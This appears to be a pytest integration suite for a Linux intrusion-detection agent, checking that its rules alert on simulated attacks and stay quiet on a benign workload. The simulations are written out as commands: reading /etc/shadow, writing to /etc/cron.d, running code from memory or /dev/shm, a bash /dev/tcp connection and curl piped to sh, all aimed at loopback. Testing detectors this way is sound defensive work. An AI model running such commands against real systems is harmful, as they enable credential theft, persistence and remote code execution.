"""The agent with the default rules on the real kernel: real attacks alert with the right fields, a benign
workload raises nothing."""

from __future__ import annotations

import http.server
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from .conftest import REPO, get, sentinel_cmd

pytestmark = pytest.mark.kernel


class Detector:
    """`sentinel run` with the shipped rules; alerts on stdout collected by a thread."""

    def __init__(
        self,
        args: tuple[str, ...] = (),
        *,
        cmd: list[str] | None = None,
        env: dict[str, str] | None = None,
        ready_timeout: float = 90,
    ) -> None:
        """``cmd``/``env``: another way to start the agent (a sandbox around it); ``args`` are then unused."""
        if os.geteuid() != 0:
            pytest.fail("kernel tests need root: run the suite with scripts/run-tests.sh as root")
        if cmd is None:
            if "--state-dir" not in args:  # never the host's /var/lib/sentinel: each agent learns afresh
                self.state_dir = tempfile.mkdtemp(prefix="sentinel-state-")
                args = (*args, "--state-dir", self.state_dir)
            cmd = sentinel_cmd("run", *args)
        self.proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO, env=env)
        self.alerts: list[dict[str, Any]] = []
        self.diagnostics: list[dict[str, Any]] = []
        self.bad: list[bytes] = []
        self._ready = threading.Event()
        self._readers = [
            threading.Thread(target=self._out, daemon=True),
            threading.Thread(target=self._err, daemon=True),
        ]
        for t in self._readers:
            t.start()
        if not self._ready.wait(ready_timeout) or self.proc.poll() is not None:
            self.proc.kill()
            pytest.fail(f"{' '.join(cmd[:3])} did not become ready: {self.diagnostics[-10:]}")

    def _out(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            try:
                self.alerts.append(orjson.loads(line))
            except orjson.JSONDecodeError:
                self.bad.append(line)

    def _err(self) -> None:
        assert self.proc.stderr is not None
        for line in self.proc.stderr:
            try:
                rec = orjson.loads(line)
            except orjson.JSONDecodeError:
                rec = {"event": "non-json", "line": line.decode(errors="replace")}
            self.diagnostics.append(rec)
            if rec.get("event") == "sentinel.ready":
                self._ready.set()

    def wait_alert(
        self, rule: str, pred: Callable[[dict[str, Any]], bool], timeout: float = 15.0
    ) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for a in list(self.alerts):
                if get(a, "rule.name") == rule and pred(a):
                    return a
            time.sleep(0.05)
        seen = sorted({get(a, "rule.name") for a in self.alerts})
        pytest.fail(f"no {rule!r} alert within {timeout}s; rules seen: {seen}")

    def diagnostic(self, event: str) -> dict[str, Any] | None:
        """The first stderr record named ``event``."""
        return next((d for d in self.diagnostics if d.get("event") == event), None)

    def stop(self, sig: int = signal.SIGTERM) -> int:
        """Stop the agent and wait until its last lines are read (pending summaries come at shutdown)."""
        self.proc.send_signal(sig)
        try:
            rc = self.proc.wait(30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            rc = -9
        for t in self._readers:
            t.join(10)
        return rc


@pytest.fixture(scope="module")
def detector() -> Iterator[Detector]:
    d = Detector()
    yield d
    assert d.stop() == 0
    assert not d.bad, f"non-JSON alert lines: {d.bad[:3]}"


def in_tree(alert: dict[str, Any], root_pid: int) -> bool:
    """The alert's process is root_pid or descends from it."""
    if get(alert, "process.pid") == root_pid:
        return True
    return any(a.get("pid") == root_pid for a in get(alert, "sentinel.ancestors") or [])


def common_alert_fields(alert: dict[str, Any]) -> None:
    assert get(alert, "event.kind") == "alert"
    assert get(alert, "event.severity") in (21, 47, 73, 99)
    assert get(alert, "rule.ruleset") == "sentinel"
    assert get(alert, "threat.framework") == "MITRE ATT&CK"
    assert get(alert, "message")
    assert get(alert, "@timestamp").endswith("Z")


def test_fake_nginx_spawning_a_shell(detector: Detector, tmp_path: Path) -> None:
    nginx = tmp_path / "nginx"
    shutil.copy(os.path.realpath(sys.executable), nginx)
    code = "import subprocess; subprocess.run(['/bin/sh', '-c', 'id > /dev/null'])"
    env = {**os.environ, "PYTHONHOME": sys.base_prefix}  # a copied interpreter cannot find its stdlib alone
    proc = subprocess.run([str(nginx), "-c", code], check=True, env=env)
    assert proc.returncode == 0
    alert = detector.wait_alert(
        "Shell Or Interpreter Spawned By Web Server",
        lambda a: get(a, "process.parent.executable") == str(nginx),
    )
    common_alert_fields(alert)
    # ECS process.name is the executable's file name (/bin/sh is dash here); the comm is the thread's name
    assert get(alert, "process.name") == os.path.basename(os.path.realpath("/bin/sh"))
    assert get(alert, "process.thread.name") == "sh"
    assert get(alert, "process.parent.name") == "nginx"
    assert get(alert, "event.severity") == 73
    assert "T1505.003" in str(get(alert, "threat.technique"))


def test_shadow_read_with_a_copied_cat(detector: Detector, tmp_path: Path) -> None:
    cat = tmp_path / "cat"
    shutil.copy("/bin/cat", cat)
    subprocess.run([str(cat), "/etc/shadow"], check=True, stdout=subprocess.DEVNULL)
    alert = detector.wait_alert(
        "Shadow File Read By Unexpected Program", lambda a: get(a, "process.executable") == str(cat)
    )
    common_alert_fields(alert)
    assert get(alert, "file.path") == "/etc/shadow"
    assert get(alert, "event.category") == ["file"]
    assert "mitre_credential_access" not in str(get(alert, "threat.tactic.id"))  # ids, not tags
    assert "TA0006" in str(get(alert, "threat.tactic.id"))


def test_write_in_cron_d(detector: Detector) -> None:
    target = Path(f"/etc/cron.d/sentinel-test-{uuid.uuid4().hex[:8]}")
    try:
        subprocess.run([sys.executable, "-c", f"open({str(target)!r}, 'w').write('# test\\n')"], check=True)
    finally:
        target.unlink(missing_ok=True)
    alert = detector.wait_alert("Cron Configuration Written", lambda a: get(a, "file.path") == str(target))
    common_alert_fields(alert)
    assert "TA0003" in str(get(alert, "threat.tactic.id"))


def test_exec_from_dev_shm(detector: Detector) -> None:
    target = Path(f"/dev/shm/sentinel-{uuid.uuid4().hex[:8]}")
    shutil.copy("/bin/true", target)
    try:
        subprocess.run([str(target)], check=True)
    finally:
        target.unlink()
    alert = detector.wait_alert(
        "Program Run From Shared Memory", lambda a: get(a, "process.executable") == str(target)
    )
    common_alert_fields(alert)
    assert get(alert, "event.action") == "exec"


def test_fileless_execution_from_a_memfd(detector: Detector) -> None:
    """memfd_create + exec of /proc/self/fd/N: the alert names the memfd, not a file of the agent."""
    name = f"implant-{uuid.uuid4().hex[:8]}"
    code = (
        "import os, subprocess, sys\n"
        "fd = os.memfd_create(sys.argv[1], 0)\n"
        "os.write(fd, open('/bin/true', 'rb').read())\n"
        "subprocess.run([f'/proc/self/fd/{fd}'], pass_fds=[fd], check=True)\n"
    )
    subprocess.run([sys.executable, "-c", code, name], check=True)
    alert = detector.wait_alert(
        "Fileless Execution From Memory File", lambda a: get(a, "process.executable") == f"memfd:{name}"
    )
    common_alert_fields(alert)
    assert get(alert, "sentinel.process.exe_from_memfd") is True
    assert "T1620" in str(get(alert, "threat.technique"))


def test_shell_connecting_to_a_loopback_listener(detector: Detector) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    try:
        shell = subprocess.run(
            ["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3"], check=True
        )
        assert shell.returncode == 0
    finally:
        listener.close()
    alert = detector.wait_alert("Shell Process Connects Out", lambda a: get(a, "destination.port") == port)
    common_alert_fields(alert)
    assert get(alert, "destination.ip") == "127.0.0.1"
    assert get(alert, "event.severity") == 99
    assert get(alert, "process.name") == "bash"


class _Script(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"echo downloaded-and-run > /dev/null\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_args: Any) -> None:
        pass


def test_curl_piped_to_sh(detector: Detector) -> None:
    server = http.server.HTTPServer(("127.0.0.1", 0), _Script)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/install.sh"
    try:
        subprocess.run(["/bin/sh", "-c", f"curl -fsS {url} | sh"], check=True)
    finally:
        server.shutdown()
    alert = detector.wait_alert(
        "Download Piped To Shell", lambda a: url in (get(a, "process.command_line") or "")
    )
    common_alert_fields(alert)


BENIGN = r"""
set -e
cd "$WORK"
# package manager dry run
apt-get --simulate install -y hello > /dev/null 2>&1 || apt-get --simulate upgrade > /dev/null
# compile a C file
printf '#include <stdio.h>\nint main(void){puts("hi");return 0;}\n' > hello.c
cc -O2 -o hello hello.c && ./hello > /dev/null
# git operations
git init -q repo && cd repo && git config user.email t@example.org && git config user.name t
echo x > f && git add f && git commit -qm one
git log --oneline > /dev/null && git status --short > /dev/null
cd "$WORK"
# cron-like jobs
mkdir -p cron.daily && printf '#!/bin/sh\ndate > /dev/null\nls /etc > /dev/null\n' > cron.daily/job
chmod +x cron.daily/job && run-parts cron.daily
# logrotate
mkdir -p logs && seq 1 1000 > logs/app.log
printf '%s/logs/app.log {\n  rotate 2\n  compress\n  missingok\n}\n' "$WORK" > lr.conf
logrotate -f -s "$WORK/lr.state" lr.conf
"""


def test_benign_workload_raises_nothing(detector: Detector) -> None:
    # Where an operator builds and runs things: not a temporary or hidden directory (those rules should fire).
    work = Path(f"/srv/sentinel-benign-{uuid.uuid4().hex[:8]}")
    work.mkdir(parents=True)
    try:
        proc = subprocess.Popen(["/bin/sh", "-c", BENIGN], env={**os.environ, "WORK": str(work)})
        assert proc.wait(300) == 0
    finally:
        shutil.rmtree(work, ignore_errors=True)
    time.sleep(2.0)  # the agent polls every 50 ms and holds 5 ms back: 2 s is ample
    noisy = [a for a in detector.alerts if in_tree(a, proc.pid)]
    assert not noisy, [(get(a, "rule.name"), get(a, "process.command_line")) for a in noisy]


def test_agent_diagnostics(detector: Detector) -> None:
    loaded = [d for d in detector.diagnostics if d.get("event") == "sentinel.rules_loaded"]
    assert loaded and loaded[0]["rules"] >= 40
    anomaly = [d for d in detector.diagnostics if d.get("event") == "sentinel.anomaly"]
    assert anomaly and anomaly[0]["phase"] == "learning"  # no host model yet: auto mode learns first
    assert not [a for a in detector.alerts if get(a, "rule.ruleset") == "sentinel-ml"]


GOOD_RULE = """
- rule: Marker Binary Executed
  desc: test rule for reloads
  condition: evt.type = execve and proc.name = {name}
  output: marker ran (cmdline=%proc.cmdline)
  priority: WARNING
  tags: [process, mitre_execution, T1059]
"""


def test_sighup_reload_keeps_old_rules_on_error_and_swaps_on_success(tmp_path: Path) -> None:
    """Real agent, real signal: a broken rules file is refused loudly, the old rules keep firing."""
    rules = tmp_path / "rules.yaml"
    first, second = "mk" + uuid.uuid4().hex[:8], "mk" + uuid.uuid4().hex[:8]
    rules.write_text(GOOD_RULE.format(name=first))
    for name in (first, second):
        shutil.copy("/bin/true", tmp_path / name)
    d = Detector(("--rules", str(rules), "--aggregation-window", "0"))
    try:
        subprocess.run([str(tmp_path / first)], check=True)
        d.wait_alert("Marker Binary Executed", lambda a: get(a, "process.name") == first)

        rules.write_text("- rule: Broken\n  condition: proc.nosuchfield = 1\n")
        d.proc.send_signal(signal.SIGHUP)
        d.wait_alert("Rules reload failed", lambda a: True)
        assert any(x.get("event") == "sentinel.reload_failed" for x in d.diagnostics)
        subprocess.run([str(tmp_path / first)], check=True)  # the old rules still run
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            if sum(get(a, "process.name") == first for a in d.alerts) >= 2:
                break
            time.sleep(0.05)
        assert sum(get(a, "process.name") == first for a in d.alerts) >= 2

        rules.write_text(GOOD_RULE.format(name=second))
        d.proc.send_signal(signal.SIGHUP)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and not any(
            x.get("event") == "sentinel.rules_reloaded" for x in d.diagnostics
        ):
            time.sleep(0.05)
        subprocess.run([str(tmp_path / second)], check=True)
        d.wait_alert("Marker Binary Executed", lambda a: get(a, "process.name") == second)
    finally:
        assert d.stop() == 0


def test_metrics_and_health_endpoint(tmp_path: Path) -> None:
    """The running agent serves Prometheus metrics and /healthz on the address it was given."""
    import json
    import urllib.request

    from prometheus_client.parser import text_string_to_metric_families

    d = Detector(("--metrics-address", "127.0.0.1:0", "--model", "off"))
    try:
        listening = [x for x in d.diagnostics if x.get("event") == "sentinel.metrics_listening"]
        assert listening, d.diagnostics[-5:]
        base = listening[0]["url"]
        subprocess.run(["/bin/true"], check=True)
        deadline = time.monotonic() + 10
        families: dict[str, Any] = {}
        received = 0.0
        while time.monotonic() < deadline:
            text = urllib.request.urlopen(f"{base}/metrics", timeout=5).read().decode()
            families = {f.name: f for f in text_string_to_metric_families(text)}
            fam = families.get("sentinel_events_received")
            received = sum(s.value for s in fam.samples if s.name.endswith("_total")) if fam else 0
            if received > 0:
                break
            time.sleep(0.5)
        assert received > 0
        assert "sentinel_ruleset_info" in families and "sentinel_build_info" in families
        with urllib.request.urlopen(f"{base}/healthz", timeout=5) as resp:
            assert resp.status == 200
            health = json.loads(resp.read())
        assert health["status"] in ("ok", "degraded") and health["checks"]["probes"]["status"] == "ok"
    finally:
        assert d.stop() == 0


def test_alerts_delivered_over_http_after_the_receiver_comes_up(tmp_path: Path) -> None:
    """The live agent with an HTTP sink: alerts raised while the receiver is down are spooled and delivered
    once it listens, each event.id once."""
    received: list[dict[str, Any]] = []

    class Receiver(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            if self.headers.get("Content-Encoding") == "gzip":
                import gzip

                body = gzip.decompress(body)
            received.extend(orjson.loads(line) for line in body.splitlines() if line.strip())
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *_args: Any) -> None:
            pass

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    d = Detector(("--output", f"http:http://127.0.0.1:{port}/alerts", "--model", "off"))
    try:
        cat = tmp_path / "cat"
        shutil.copy("/bin/cat", cat)
        subprocess.run([str(cat), "/etc/shadow"], check=True, stdout=subprocess.DEVNULL)
        time.sleep(2.0)  # raised and spooled while nothing listens
        server = http.server.HTTPServer(("127.0.0.1", port), Receiver)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            deadline = time.monotonic() + 30
            while time.monotonic() < deadline:
                if any(get(a, "process.executable") == str(cat) for a in received):
                    break
                time.sleep(0.2)
        finally:
            server.shutdown()
        shadow = [a for a in received if get(a, "process.executable") == str(cat)]
        assert shadow, f"{len(received)} alerts received, none for {cat}"
        ids = [get(a, "event.id") for a in received]
        assert len(ids) == len(set(ids))
    finally:
        assert d.stop() == 0


def test_config_file_redaction_and_reload_on_change(tmp_path: Path) -> None:
    """The agent configured by a file only: a real exec with a password on its command line alerts with the
    secret redacted; editing the file (no signal) disables the rule, which the agent applies by itself."""
    name, other = "mk" + uuid.uuid4().hex[:8], "mk" + uuid.uuid4().hex[:8]
    rules = tmp_path / "rules.yaml"
    rules.write_text(GOOD_RULE.format(name=name) + GOOD_RULE.format(name=other).replace("Marker", "Other"))
    for n in (name, other):
        shutil.copy("/bin/true", tmp_path / n)
    config = tmp_path / "sentinel.yaml"
    base = (
        f"rules: [{rules}]\naggregation_window_s: 0\nmodel: 'off'\n"
        "redact: ['--vault-code[= ](?P<secret>\\S+)']\nreload: {watch: true, interval_s: 0.5}\n"
    )
    config.write_text(base)
    d = Detector(("--config", str(config)))
    try:
        argv = [str(tmp_path / name), "--password", "hunter2hunter", "--vault-code=77aa99"]
        subprocess.run(argv, check=True)
        alert = d.wait_alert("Marker Binary Executed", lambda a: get(a, "process.name") == name)
        text = orjson.dumps(alert).decode()
        assert "hunter2hunter" not in text and "77aa99" not in text
        assert get(alert, "process.args")[1:] == ["--password", "[REDACTED]", "--vault-code=[REDACTED]"]
        assert "[REDACTED]" in get(alert, "message")

        tmp = config.with_suffix(".new")
        tmp.write_text(base + "rules_disable: [Marker Binary Executed]\n")
        os.replace(tmp, config)
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline and not any(
            x.get("event") == "sentinel.rules_reloaded" for x in d.diagnostics
        ):
            time.sleep(0.1)
        reloaded = [x for x in d.diagnostics if x.get("event") == "sentinel.rules_reloaded"]
        assert reloaded and reloaded[0]["config"] == str(config)
        subprocess.run([str(tmp_path / name)], check=True)  # disabled now
        subprocess.run([str(tmp_path / other)], check=True)  # still on: proves the events went through
        d.wait_alert("Other Binary Executed", lambda a: get(a, "process.name") == other)
        time.sleep(0.5)
        assert sum(get(a, "rule.name") == "Marker Binary Executed" for a in d.alerts) == 1
    finally:
        assert d.stop() == 0
    assert not d.bad
